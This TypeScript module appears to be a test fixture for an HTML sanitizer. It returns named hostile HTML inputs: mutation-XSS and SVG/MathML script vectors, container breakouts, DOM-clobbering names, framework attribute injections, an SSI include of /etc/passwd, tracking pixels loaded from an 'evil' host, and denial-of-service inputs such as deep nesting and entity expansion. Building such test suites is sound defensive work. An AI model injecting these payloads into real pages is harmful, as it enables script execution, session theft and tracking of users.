/** Returns attacks as `[name, html]`. Some are parsed by a browser in another way than by a filter;
 *  some leave their container; some exhaust the reader. `run` is the script to call, `evil` the
 *  site to load from. */
export function hostileBreakouts(run: string, evil: string): readonly (readonly [string, string])[] {
  const image = `<img src=x onerror=${run}>`;
  return [
    ...mutations(image, run),
    ...foreign(image, run),
    ...[
      ['ends of our containers', `</p></div></article></section></main></body></html>${image}<h1>Taken over</h1>`],
      ['ends of many containers', `${'</div>'.repeat(50)}${'</article>'.repeat(50)}</main><footer>ours?</footer>`],
      ['ends of lists and tables', '</li></ul></td></tr></tbody></table></dd></dl></details></figure>x'],
      ['a second main and body', '<body class=dark><main><header><nav><h1>x</h1></nav></header></main><footer>y</footer>'],
      [
        'landmarks',
        '<nav>a</nav><header>b</header><footer>c</footer><aside>d</aside><aside>e</aside><section aria-label=f>g</section><search>h</search>',
      ],
      ['formatting left open', '<b><i><u><a href="https://x.example/"><code><small>the next story too?'],
      ['containers left open', '<div><blockquote><ul><li><table><tr><td>the next story inside me?'],
      ['comment left open', 'a<!-- b <p>c'],
      ['attribute left open', '<p title="b><i>c</i>'],
      ['tag left open', 'a<img src="i.png" alt="x'],
      ['text to the end', '<plaintext>the rest of the page'],
      ['rows without table', '<tr><td>a<td>b</tr></table><caption>c</caption><col><tbody><tr>d'],
      ['content put in front of its table', `<table><p>a</p><b>b${image}<tr><td>c</td>d</tr><h2>e</h2></table>`],
      ['tables in tables in links', '<a href="https://x.example/"><table><tr><td><a href="https://y.example/"><table><tr><td>x<td>y'],
      ['links in links', '<a href="https://x.example/">a<a href="https://y.example/">b</a>c</a>'],
      [
        'controls in a link',
        `<a href="https://x.example/"><video controls src="v.mp4"></video><details><summary>s</summary>t</details></a>`,
      ],
      ['headings of all levels, in disorder', '<h6>a</h6><h1>b</h1><h4>c</h4><h2></h2><h3><img src="i.png"></h3><h5><h1>d</h1></h5>'],
      ['headings in headings, terms and headers', '<h2>a<h3>b</h3></h2><dl><dt><h1>c</h1><dd>d</dl><table><th><h2>e</h2><td>f</table>'],
      ['lists that hold anything', '<ul>a<b>b</b><div>c</div><ul><ol></ol></ul></ul><dl>d<ul><li>e</ul></dl><ol><dt>f</dt></ol>'],
      ['ruby without base', '<ruby><rt>a</rt><rp>b</rp><ruby><rt>c</rt></ruby></ruby><rt>d</rt><rp><b>e</b></rp>'],
      [
        'names that hide our own',
        '<img name=getElementById id=attacked><a id=document name=cookie href="https://x.example/">x</a><form id=location></form>',
      ],
      ['ids and targets', '<p id=main>a</p><a href="#main">b</a><label for=main>c</label><div itemid=x slot=y part=z>d</div>'],
      [
        'attributes of our own',
        '<div class="wide" tabindex="5" role="alert" aria-live="assertive" aria-hidden="true" contenteditable accesskey="s">x</div>',
      ],
      [
        'attributes of scripts',
        `<div data-hx-get="${evil}" hx-get="${evil}" x-data="{}" x-init="${run}" ng-app v-html="${run}" @click="${run}">{{7*7}}</div>`,
      ],
      ['template of shadow', `<div><template shadowrootmode=open>${image}<slot></slot></template>x</div>`],
      ['template', `<template>${image}<script>${run}</script></template>`],
      ['events of an include', `<esi:include src="${evil}"/><!--#include virtual="/etc/passwd" --><?php echo 1 ?><%= 1 %>`],
      ['a hundred wrong languages', Array.from({ length: 100 }, (_, index) => `<b lang="q-${index}" dir="sideways">x</b>`).join('')],
      ['overrides not closed', '<p>a\u202eb</p><bdo dir=rtl>c</bdo>\u2067d'],
      ['marks stacked', `<p>Z${'\u0336\u0321\u035c'.repeat(300)}</p>`],
      ['zero-width flood', `<p>a${'\u200b\u2060'.repeat(5000)}b</p>`],
      ['one word of 10,000 letters', `<p>${'w'.repeat(10_000)}</p><pre>${'x'.repeat(10_000)}</pre><code>${'y'.repeat(5000)}</code>`],
      ['one address of 10,000 letters', `<a href="https://x.example/${'z'.repeat(10_000)}">https://x.example/${'z'.repeat(10_000)}</a>`],
      ['a picture as large as a field', '<img src="i.png" width=99999999 height=99999999><video src="v.mp4" width=-1 height=1e9></video>'],
      ['a wide table', `<table>${`<tr>${'<td colspan=1000 rowspan=65534>cell'.repeat(60)}</tr>`.repeat(5)}</table>`],
      ['1,000 line breaks', `a${'<br>'.repeat(1000)}b${'<p>&nbsp;</p>'.repeat(1000)}c${'<hr>'.repeat(3)}`],
      ['3,000 elements left open', `${'<div><b>'.repeat(1500)}deep`],
      ['3,000 lists in lists', `${'<ul><li>'.repeat(1500)}deep`],
      ['100 tables in tables', `${'<table><tr><td>a<td>'.repeat(100)}deep`],
      ['100 quotations in quotations', `${'<blockquote><p>a'.repeat(100)}deep`],
      ['entities that make more of themselves', `<!DOCTYPE x [<!ENTITY a "${'&b;'.repeat(50)}">]>${'&a;'.repeat(100)}`],
      ['unknown and broken references', '&#0;&#x110000;&#xd800;&#128;&nosuch;&amp&lt&#;&#x;&'],
      [
        'pixels that count readers',
        `<img src="${evil}/p.gif" width=1 height=1><img src="${evil}/q.gif" width=0><img src="${evil}/r.gif" height="1px">`,
      ],
    ].map(([name = '', html = '']): [string, string] => [name, html]),
  ];
}

/** Mutation XSS: harmless after one parse, harmful once serialised and parsed again. */
function mutations(image: string, run: string): readonly (readonly [string, string])[] {
  return [
    ['attribute that ends a noscript', `<noscript><p title="</noscript>${image}"></noscript>`],
    [
      'attribute that ends a style in math',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replaceAll('"', '')}">`,
    ],
    ['style between math and HTML', `<math><mi><table><mglyph><style><math>${image}</style></mglyph></table></mi></math>`],
    ['form twice in math', `<form><math><mtext></form><form><mglyph><style></math>${image}`],
    ['style in svg', `<svg></p><style><a id="</style>${image}">`],
    ['comment in a style in svg', `<svg><style><!--</style>${image}--></svg>`],
    ['title in svg', `<svg><title><style></title>${image}</style></svg>`],
    ['desc in svg', `<svg><desc><table><style>${image}</style></table></desc></svg>`],
    ['annotation of math', `<math><annotation-xml encoding="text/html"><p>${image}</p></annotation-xml></math>`],
    ['select and style', `<select><style></select>${image}</style>`],
    ['textarea', `<textarea></textarea${image}`],
    ['title', `<title></title >${image}`],
    ['xmp', `<xmp><p title="</xmp>${image}"></xmp>`],
    ['noembed and noframes', `<noembed></noembed>${image}<noframes></noframes>${image}`],
    ['listing and its first line end', `<listing>\n\n&lt;img src=x onerror=${run}&gt;</listing>`],
    ['pre and its first line end', `<pre>\n\n&lt;script&gt;${run}&lt;/script&gt;</pre>`],
    ['comment closed early', `<!-->${image}-->`],
    ['comment closed with a mark', `<!-- --!>${image} -->`],
    ['comment closed at once', `<!--->${image}-->`],
    ['comment of a condition', `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
    ['CDATA in HTML', `<![CDATA[${image}]]>`],
    ['CDATA in svg', `<svg><![CDATA[</svg>${image}]]></svg>`],
    ['processing instruction', `<?xml-stylesheet href="javascript:${run}"?><?x ${image}?>`],
    ['doctype inside', `<!DOCTYPE html [<!ENTITY x "${image}">]>&x;`],
    ['back quotes', `<img alt="\`\`onerror=${run}" src=x>`],
    ['quotes in an unquoted attribute', `<a title=a"onmouseover=${run}" href=https://x.example/>x</a>`],
    ['equals sign as a name', `<a ="x" =onclick=${run}>x</a>`],
    ['slash at the end of a script', `<script/>${run}</script/>`],
    ['broken nesting', `<b><i><p></b>${image}</i></p>`],
    ['nested formatting and tables', `<a><b><table><a><b>${image}</table></a></b>`],
    ['template in a table', `<table><template><tr>${image}</template></table>`],
    ['escaped markup, which must stay so', `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;`],
    ['markup in UTF-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
    ['full-width brackets', `＜script＞${run}＜/script＞`],
    ['closing tag with attributes', `</p onclick=${run}></br onclick=${run}>x`],
    ['duplicate attributes', `<img src="i.png" src="javascript:${run}" alt=a alt=b onerror=${run} onerror=${run}>`],
  ];
}

/** Other namespaces, in which the same names have other meanings. */
function foreign(image: string, run: string): readonly (readonly [string, string])[] {
  return [
    ['svg that loads', `<svg onload=${run}></svg>`],
    ['svg with a script', `<svg><script>${run}</script></svg>`],
    ['svg with a script as an address', `<svg><script href="data:,${run}"/></svg>`],
    ['svg link', `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`],
    ['svg link that is set', `<svg><a><set attributeName=href to="javascript:${run}"/><text y=20>x</text></a></svg>`],
    ['svg link that is animated', `<svg><a id=l><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`],
    ['svg animation that begins', `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`],
    ['svg use', `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`],
    ['svg with HTML inside', `<svg><foreignObject><iframe src="javascript:${run}"></iframe>${image}</foreignObject></svg>`],
    ['svg image and handler', `<svg><image href=x onerror=${run}></svg>`],
    ['svg filter from elsewhere', '<svg><feImage href="https://evil.example/a"/></svg>'],
    ['math link', `<math href="javascript:${run}">x</math>`],
    ['math action', `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${run}">x</maction></math>`],
    ['image, the old name', `<image src=x onerror=${run}>`],
    ['xml island', `<xml id=x><a><b>&lt;img src=x onerror=${run}&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>`],
    ['names with a prefix', `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script><x:script>${run}</x:script>`],
  ];
}
